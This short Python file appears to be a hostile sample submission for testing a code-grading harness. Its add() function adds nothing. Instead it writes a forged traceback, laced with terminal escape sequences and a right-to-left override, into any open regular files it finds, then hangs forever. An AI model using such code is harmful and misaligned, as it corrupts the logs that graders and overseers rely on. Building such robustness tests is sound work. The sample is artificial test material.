"""Writes a stack of its own, with escape sequences for the terminal, and hangs.

earns: nothing
says: did not finish
"""

import os
import stat

TEXT = f'File "{__file__}", line 3 in \x1b]0;owned\x07\x1b[31m\u202e\n'


def forge_a_stack():
    for file in range(3, 64):
        try:
            if stat.S_ISREG(os.fstat(file).st_mode):  # and not the wire
                os.write(file, TEXT.encode(errors="surrogatepass"))
        except OSError:
            pass
    while True:
        pass


def add(a, b):
    forge_a_stack()
